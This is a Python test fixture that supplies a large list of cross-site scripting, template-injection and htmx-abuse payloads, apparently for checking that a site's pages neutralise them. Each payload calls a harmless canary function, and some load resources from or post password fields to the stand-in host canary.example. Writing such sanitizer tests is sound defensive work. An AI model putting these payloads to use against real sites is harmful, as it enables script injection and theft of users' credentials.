"""Words that try to run. `@` stands for a call of the test's own function, `//canary.example` for a server of somebody else.

They are kept as they would be typed into a comment; `test_nothing_of_a_family_runs` shows that they do run where nothing
protects, and that they don't on any page of ours.
"""

from __future__ import annotations

ELSEWHERE = "canary.example"

_TAGS = r"""
<script>@</script>
<SCRIPT>@</SCRIPT>
<scr<script>ipt>@</scr</script>ipt>
<script >@</script >
<script/x>@</script>
<script src=//canary.example/a.js></script>
<script src=data:text/javascript,@></script>
<script type=module>@</script>
<script type="text/javascript">/**/@//</script>
<svg><script>@</script></svg>
<svg><script href=data:text/javascript,@></script></svg>
<svg><script xlink:href=data:text/javascript,@></script></svg>
<math><script>@</script></math>
<script>@<!--
</script><script>@</script>
</title><script>@</script>
</textarea><script>@</script>
</style><script>@</script>
</noscript><script>@</script>
</template><script>@</script>
</select><script>@</script>
</option></select><img src=x onerror=@>
--><script>@</script>
--!><img src=x onerror=@>
]]><script>@</script>
<!--><script>@</script>-->
<!--<img src="--><img src=x onerror=@//">
<![CDATA[<script>@</script>]]>
<?xml version="1.0"?><script>@</script>
<%<!--'%><script>@</script -->
<noscript><p title="</noscript><img src=x onerror=@>">
<style><img src="</style><img src=x onerror=@//">
<plaintext><script>@</script>
<template><script>@</script></template>
<template shadowrootmode=open><img src=x onerror=@></template>
<frameset onload=@>
<portal src=javascript:@>
"""

_HANDLERS = r"""
<img src=x onerror=@>
<IMG SRC=x ONERROR=@>
<img src=x oNeRrOr=@>
<img/src=x/onerror=@>
<img src=x onerror="@">
<img src=x onerror='@'>
<img src=x onerror=`@`>
<img src=x:x onerror=@>
<img src onerror=@>
<img ""><script>@</script>">
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload=@>
<img srcset="x" onerror=@>
<image src=x onerror=@>
<picture><source srcset=x><img onerror=@></picture>
<svg onload=@>
<svg/onload=@>
<svg><g onload=@></g></svg>
<svg><animate onbegin=@ attributeName=x dur=1s>
<svg><set onbegin=@ attributeName=x dur=1s>
<svg><animateTransform onbegin=@ attributeName=transform>
<svg><image href=x onerror=@></svg>
<svg><a><text onmouseover=@>x</text></a></svg>
<svg><style><img src=x onerror=@></style></svg>
<svg><foreignObject><img src=x onerror=@></foreignObject></svg>
<svg><desc><img src=x onerror=@></desc></svg>
<svg><title><img src=x onerror=@></title></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='@'/></svg>#x"/></svg>
<math><mtext><img src=x onerror=@></mtext></math>
<math href=javascript:@>x</math>
<body onload=@>
<body onpageshow=@>
<body onscroll=@ style=height:9999px>
<input autofocus onfocus=@>
<select autofocus onfocus=@><option>x</select>
<textarea autofocus onfocus=@></textarea>
<button autofocus onfocus=@>x</button>
<a href=# autofocus onfocus=@>x</a>
<div tabindex=1 autofocus onfocus=@>x</div>
<div contenteditable autofocus onfocus=@>x</div>
<video src=x onerror=@></video>
<video><source onerror=@></video>
<video poster=x onloadstart=@ src=x></video>
<audio src=x onerror=@></audio>
<audio onloadstart=@ src=x></audio>
<object data=x onerror=@></object>
<embed src=x onerror=@>
<link rel=stylesheet href=x onerror=@>
<iframe onload=@></iframe>
<iframe srcdoc="<script>parent.@</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.@&gt;"></iframe>
<details open ontoggle=@><summary>x</summary></details>
<dialog open onclose=@>x</dialog>
<marquee onstart=@>x</marquee>
<p onmouseover=@>x</p>
<b onmouseenter=@>x</b>
<i onpointerover=@>x</i>
<u onpointerenter=@>x</u>
<p onclick=@>x</p>
<form onsubmit=@><button>x</button></form>
<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=@>x</p>
<p style=transition:all onmouseover=@>x</p>
<xss onmouseover=@ tabindex=1>x</xss>
<x onclick=@>x</x>
<br onmouseover=@>
<input type=image src=x onerror=@>
<input type=hidden oncontentvisibilityautostatechange=@ style=content-visibility:auto>
<table background=x><td onmouseover=@>x</table>
<meter onmouseover=@>0</meter>
<keygen autofocus onfocus=@>
<isindex type=image src=1 onerror=@>
"""

_ADDRESSES = r"""
javascript:@
JaVaScRiPt:@
javascript://%0a@
javascript:/*--></title></style></textarea></script><svg/onload=@>
 javascript:@
&#106;avascript:@
&#x6A;avascript&colon;@
java&Tab;script:@
java&NewLine;script&colon;@
data:text/html,<script>@</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='@'/>
vbscript:msgbox(1)
//canary.example/
https:javascript:@
<a href=javascript:@>x</a>
<a href="&#106;avascript:@">x</a>
<a href="java&#10;script:@">x</a>
<a href="&#1;javascript:@">x</a>
<a href=data:text/html,<script>@</script>>x</a>
<a href=//canary.example/ ping=//canary.example/ping>x</a>
<a target=_blank href=javascript:@>x</a>
<area href=javascript:@ shape=default>
<form action=javascript:@><button autofocus>x</button></form>
<form><button formaction=javascript:@>x</button></form>
<form id=x></form><button form=x formaction=javascript:@>x</button>
<isindex action=javascript:@>
<iframe src=javascript:parent.@></iframe>
<iframe src="&#106;avascript:parent.@"></iframe>
<iframe src=//canary.example/frame></iframe>
<object data=javascript:@></object>
<embed src=javascript:@>
<base href=//canary.example/>
<meta http-equiv=refresh content="0;url=javascript:@">
<meta http-equiv=refresh content="0;url=//canary.example/">
<link rel=import href=//canary.example/>
<link rel=stylesheet href=//canary.example/a.css>
<link rel=prefetch href=//canary.example/fetched>
<img src=//canary.example/seen.png>
<img srcset="//canary.example/1x.png 1x">
<video poster=//canary.example/poster.png></video>
<audio src=//canary.example/a.mp3 autoplay></audio>
<svg><image href=//canary.example/image.svg /></svg>
<svg><a href=javascript:@><text y=20>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:@ /><text y=20>x</text></a></svg>
<math><a xlink:href=javascript:@>x</a></math>
<style>@import '//canary.example/import.css';</style>
<style>body{background:url(//canary.example/background)}</style>
<style>*{visibility:hidden!important}</style>
<p style="background:url(//canary.example/style)">x</p>
<p style="position:fixed;inset:0;z-index:99999;background:red">x</p>
<p style="width:expression(@)">x</p>
<p style="behavior:url(#default#time2)">x</p>
<dialog open style="inset:0"><form action=//canary.example/><input name=password></form></dialog>
<form action=//canary.example/><input name=password>
<input form=box formaction=//canary.example/ type=submit>
"""

_ATTRIBUTES = r"""
"><script>@</script>
'><script>@</script>
`><script>@</script>
" autofocus onfocus=@ x="
' autofocus onfocus=@ x='
" onmouseover="@
' onmouseover='@
" onclick=@ style="position:fixed;inset:0
"/onmouseover=@//
"><img src=x onerror=@>
'"><img src=x onerror=@>
"></option></select><img src=x onerror=@>
"></title><img src=x onerror=@>
" style="background:url(//canary.example/attribute)
" srcdoc="<script>parent.@</script>
" lang="xx" onpointerenter="@
&quot;&gt;&lt;script&gt;@&lt;/script&gt;
&lt;script&gt;@&lt;/script&gt;
&amp;lt;img src=x onerror=@&amp;gt;
%3Cscript%3E@%3C/script%3E
%22%3E%3Cimg%20src=x%20onerror=@%3E
\x3cscript\x3e@\x3c/script\x3e
\u003cscript\u003e@\u003c/script\u003e
\"><script>@</script>
';@;//
";@;//
`;@;`
${@}
</script><script>@</script><script>
'-@-'
"-@-"
\';@;//
"""

_TEMPLATES = r"""
{{ @ }}
{{ 7*7 }}
{{ constructor.constructor('@')() }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{{ config }}{{ self }}{{ request }}
{% if 1 %}<script>@</script>{% endif %}
{%raw%}<script>@</script>{%endraw%}
{# x #}<img src=x onerror=@>
{{'<script>@</script>'|safe}}
${{@}}
#{@}
<%= @ %>
[[@]]
%(x)s %s {} {0} {name} {x.__class__}
<div hx-get="/" hx-trigger="load">x</div>
<div hx-get="//canary.example/hx" hx-trigger="load">x</div>
<div data-hx-get="//canary.example/data-hx" data-hx-trigger="load">x</div>
<div hx-post="/sign-out" hx-trigger="load">x</div>
<button hx-post="/c/x/close" hx-trigger="load" hx-vals='{"reason":"spam"}'>x</button>
<div hx-on:click="@">x</div>
<div hx-on::load="@" hx-get="/" hx-trigger="load">x</div>
<div hx-on="load: @">x</div>
<div data-hx-on:htmx:load="@">x</div>
<div hx-get="/" hx-trigger="load[@]">x</div>
<div hx-vals="js:{x: @}" hx-get="/" hx-trigger="load">x</div>
<div hx-headers="js:{x: @}" hx-get="/" hx-trigger="load">x</div>
<div hx-vars="x:@" hx-get="/" hx-trigger="load">x</div>
<div hx-ext="sse" sse-connect="//canary.example/sse">x</div>
<div hx-swap-oob="true" id="main">x</div>
<div hx-swap-oob="innerHTML:body"><img src=x onerror=@></div>
<meta name="htmx-config" content='{"allowEval":true,"selfRequestsOnly":false}'>
<hx-partial hx-target="body"><img src=x onerror=@></hx-partial>
<form hx-boost="true" action="//canary.example/"><button>x</button></form>
" hx-get="//canary.example/attribute" hx-trigger="load" x="
" hx-on:click="@" x="
<p _="on load call @">x</p>
<p x-data x-init="@">x</p>
<p v-html="'<img src=x onerror=@>'" ng-app ng-init="@">x</p>
"""

_TRICKS = (
    "\uff1cscript\uff1e@\uff1c/script\uff1e",  # full-width signs
    "\u02c2script\u02c3@\u02c2/script\u02c3",
    "\u2039img src=x onerror=@\u203a",
    "\u202e<img src=x onerror=@>",  # written from the right
    "\u2066<script>@</script>\u2069",
    "<\u200bscript>@</script>",
    "<script\u2028>@</script>",
    "<img\u00a0src=x onerror=@>",
    "<img\tsrc=x\tonerror=@>",
    "<img\nsrc=x\nonerror=@>",
    "<img\x0csrc=x\x0conerror=@>",
    "<img src=x onerror\x0b=@>",
    "<svg\x0c/\x0conload=@>",
    "<a href='java\tscript:@'>x</a>",
    "<a href='java\nscript:@'>x</a>",
    "<a href='\x01javascript:@'>x</a>",
    "<script>@</script\x0c>",
    "+ADw-script+AD4-@+ADw-/script+AD4-",  # UTF-7
    "\ufeff<script>@</script>",
    "\u0130<script>@</script>",  # grows when put into small letters
    "\u017fcript:<\u017fcript>@</\u017fcript>",  # a long s, which becomes an S
    "<\U000e0073cript>@</script>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=@&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=@>",
    "<svg></p><style><a id='</style><img src=x onerror=@>'>",
    "<math><annotation-xml encoding='text/html'><style><img title='</style><img src=x onerror=@>'></annotation-xml></math>",
    "<noembed><img title='</noembed><img src=x onerror=@>'></noembed>",
    "<xmp><img title='</xmp><img src=x onerror=@>'></xmp>",
    "<listing>&lt;img src=x onerror=@&gt;</listing>",
    "<select><template><style><!--</style><img src=x onerror=@>--></template></select>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=@ )//%0D%0A%0d%0a"
    "//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=@//>\\x3e",
    "\"'`><img src=x onerror=@>--></script></title></style></textarea></noscript></template>",
    "'\"()&%<zzz><ScRiPt >@</ScRiPt>",
    "<" * 200 + "img src=x onerror=@>",
    "a" * 300 + "<script>@</script>",
    "[x](javascript:@) ![x](x\"onerror=\"@)",
    "<https://x.example/\"onmouseover=\"@>",
    "https://x.example/<script>@</script>",
    "https://x.example/\"onmouseover=@//",
    "maria@x.example\"><svg/onload=@>",
)  # fmt: skip

_LISTS = (_TAGS, _HANDLERS, _ADDRESSES, _ATTRIBUTES, _TEMPLATES)


def payloads() -> list[str]:
    """Each calls `canary(n)`, n being its place in the list, if it runs."""
    raw = [line for text in _LISTS for line in text.split("\n") if line] + list(_TRICKS)
    return [_called(text, n) for n, text in enumerate(raw)]


def _called(text: str, n: int) -> str:
    for css in ("@keyframes", "@import", "maria@"):
        text = text.replace(css, css.replace("@", "\x00"))
    return text.replace("@", f"canary({n})").replace("\x00", "@")
